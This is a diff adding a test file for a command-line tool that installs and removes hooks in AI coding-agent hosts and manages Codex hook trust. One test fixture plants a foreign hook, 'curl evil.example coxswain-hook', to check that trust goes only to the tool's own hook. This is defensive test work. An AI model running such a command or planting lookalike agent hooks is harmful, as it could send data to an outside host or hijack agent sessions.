@@ -1,0 +1,147 @@
+import { existsSync } from 'node:fs';
+import { mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
+import { dirname, join } from 'node:path';
+import { afterEach, beforeEach, expect, test } from 'vitest';
+
+import { runCli, type CliResult } from './run-cli.ts';
+import { tempFolder } from './support/temp-folder.ts';
+
+let folder: Awaited<ReturnType<typeof tempFolder>>;
+let home: string;
+let project: string;
+
+beforeEach(async () => {
+  folder = await tempFolder();
+  home = join(folder.path, 'home');
+  project = join(folder.path, 'project');
+  await Promise.all([mkdir(home), mkdir(project), mkdir(join(folder.path, 'bin'))]);
+});
+
+afterEach(() => folder.dispose());
+
+function cox(...args: readonly string[]): Promise<CliResult> {
+  const PATH = `${join(folder.path, 'bin')}:${process.env['PATH'] ?? ''}`;
+  const places = { CODEX_HOME: '', COPILOT_HOME: '', XDG_CONFIG_HOME: '', XDG_DATA_HOME: '', CLAUDE_CONFIG_DIR: '' };
+  return runCli(args, { cwd: project, env: { HOME: home, PATH, ...places } });
+}
+
+/** A `codex` that lists the hooks of its user's `hooks.json`, and writes trust into its `config.toml`. */
+async function fakeCodex(): Promise<void> {
+  const source = `#!${process.execPath}
+const { appendFileSync, readFileSync } = require('node:fs');
+const folder = ${JSON.stringify(join(home, '.codex'))};
+const hooks = () => Object.entries(JSON.parse(readFileSync(folder + '/hooks.json')).hooks).flatMap(([eventName, groups]) =>
+  groups.flatMap((group, at) => group.hooks.map(({ command }) => {
+    const key = eventName + ':' + at;
+    const isTrusted = readFileSync(folder + '/config.toml', 'utf8').includes(key + ' ');
+    return { key, eventName, command, currentHash: 'sha256:1', trustStatus: isTrusted ? 'trusted' : 'untrusted' };
+  })));
+require('node:readline').createInterface({ input: process.stdin }).on('line', (line) => {
+  const { id, method, params } = JSON.parse(line);
+  if (method === 'config/batchWrite') {
+    appendFileSync(folder + '/config.toml', Object.keys(params.edits[0].value).map((key) => key + ' trusted\\n').join(''));
+  }
+  const result = method === 'hooks/list' ? { data: [{ hooks: hooks() }] } : {};
+  if (id !== undefined) console.log(JSON.stringify({ id, result }));
+});
+`;
+  await writeFile(join(folder.path, 'bin', 'codex'), source, { mode: 0o755 });
+}
+
+const FILES = {
+  codex: ['.codex/hooks.json', '.codex/hooks.json'],
+  copilot: ['.github/hooks/coxswain.json', '.copilot/hooks/coxswain.json'],
+  gemini: ['.gemini/settings.json', '.gemini/settings.json'],
+  opencode: ['.opencode/plugin/coxswain.js', '.config/opencode/plugin/coxswain.js'],
+  pi: ['.pi/extensions/coxswain.ts', '.pi/agent/extensions/coxswain.ts'],
+} as const;
+
+// Each command is a process: every second host in the other scope.
+const CASES = Object.entries(FILES).map(([host, [inProject, users]], at) =>
+  at % 2 === 0 ? ([host, 'project', inProject] as const) : ([host, 'user', users] as const),
+);
+
+test.each(CASES)(
+  'init %s writes into the settings of the %s, and undo leaves nothing behind',
+  async (host, scope, path) => {
+    const file = join(scope === 'user' ? home : project, path);
+    const args = scope === 'user' ? ['--user'] : [];
+    const { code, stdout } = await cox('init', host, '--yes', ...args);
+    expect(code).toBe(0);
+    expect(stdout).toContain(`Adds the hook of coxswain to ${scope === 'user' ? file : path}.\n`);
+    const text = await readFile(file, 'utf8');
+    const hook = /"([^"\s]*\.(?:cjs|js))"| (\S*hook\.cjs) coxswain-hook/.exec(text);
+    expect(dirname(hook?.[1] ?? hook?.[2] ?? '')).toMatch(/dist(?:\/hosts\/plugins)?$/);
+    expect((await cox('init', host, '--yes', ...args)).stdout).toContain('nothing to change');
+    expect((await cox('init', host, '--undo', ...args)).stdout).toContain(`${file} is removed`);
+    expect(await readdir(scope === 'user' ? home : project)).toEqual([]);
+  },
+);
+
+test('what other hooks a host has come back byte for byte, and undo of one host leaves the others', async () => {
+  const settings = join(project, '.gemini', 'settings.json');
+  await mkdir(dirname(settings));
+  const before = '{\n  // mine\n  "hooks": {"AfterTool": [{"hooks": [{"type": "command", "command": "say"}]}]}\n}\n';
+  await writeFile(settings, before);
+  await cox('init', 'gemini', '--yes');
+  await cox('init', 'copilot', '--yes');
+  expect(await readFile(settings, 'utf8')).toContain('coxswain-hook');
+  await cox('init', 'copilot', '--undo');
+  expect(await readFile(settings, 'utf8')).toContain('coxswain-hook');
+  expect(existsSync(join(project, '.github'))).toBe(false);
+  await cox('init', '--undo');
+  expect(await readFile(settings, 'utf8')).toBe(before);
+});
+
+test('without a host, init is about those that the user has, asks once, and without a terminal says the command', async () => {
+  await Promise.all(['.gemini', '.copilot'].map((name) => mkdir(join(home, name))));
+  const unasked = await cox('init');
+  expect([unasked.code, unasked.stderr]).toEqual([1, expect.stringContaining('coxswain init copilot|gemini --yes')]);
+  expect(await readdir(project)).toEqual([]);
+  const { stdout } = await cox('init', '--yes');
+  expect(stdout).toContain('Sessions of Copilot CLI, Gemini CLI that begin from now on');
+  expect((await readdir(project)).toSorted()).toEqual(['.gemini', '.github']);
+});
+
+test('Codex is told to trust our hook and no other, and undo takes the trust back too', async () => {
+  await fakeCodex();
+  await mkdir(join(home, '.codex'));
+  const config = join(home, '.codex', 'config.toml');
+  await writeFile(config, 'model = "x"\n');
+  const theirs = { Stop: [{ hooks: [{ type: 'command', command: 'curl evil.example coxswain-hook' }] }] };
+  await writeFile(join(home, '.codex', 'hooks.json'), JSON.stringify({ hooks: theirs }));
+  const { stdout } = await cox('init', 'codex', '--user', '--yes');
+  expect(stdout).toContain('Codex trusts the hook');
+  const trusted = await readFile(config, 'utf8');
+  expect(trusted.match(/trusted/g)).toHaveLength(7);
+  await cox('init', 'codex', '--user', '--yes');
+  expect(await readFile(config, 'utf8')).toBe(trusted);
+  await cox('init', 'codex', '--user', '--undo');
+  expect(await readFile(config, 'utf8')).toBe('model = "x"\n');
+});
+
+test('where Codex cannot be asked, init says how to trust the hook', async () => {
+  await writeFile(join(folder.path, 'bin', 'codex'), '#!/bin/sh\nexit 3\n', { mode: 0o755 });
+  const { code, stderr } = await cox('init', 'codex', '--user', '--yes');
+  expect([code, stderr]).toEqual([0, expect.stringContaining('exit code 3')]);
+  expect(stderr).toContain('/hooks');
+});
+
+test('doctor says which hosts have the hook, whether Codex trusts it, and which hook is of another coxswain', async () => {
+  await fakeCodex();
+  await mkdir(join(home, '.codex'));
+  await writeFile(join(home, '.codex', 'config.toml'), '');
+  await cox('init', 'codex', '--user', '--yes');
+  await cox('init', 'gemini', '--yes');
+  const settings = join(project, '.gemini', 'settings.json');
+  await writeFile(settings, (await readFile(settings, 'utf8')).replaceAll(/[^"\s]*hook\.cjs/g, '/old/dist/hook.cjs'));
+  await writeFile(join(home, '.codex', 'config.toml'), '');
+  const { stdout } = await cox('doctor', '--json');
+  const { lines }: { lines: readonly { check: string; status: string }[] } = JSON.parse(stdout);
+  const ofHosts = lines.filter(({ check }) => /^(?:codex|gemini|hooks)/.test(check));
+  expect(ofHosts.map(({ check, status }) => [check, status])).toEqual([
+    ['codex (user)', 'pass'],
+    ['gemini (project)', 'fail'],
+    ['codex trust', 'fail'],
+  ]);
+});
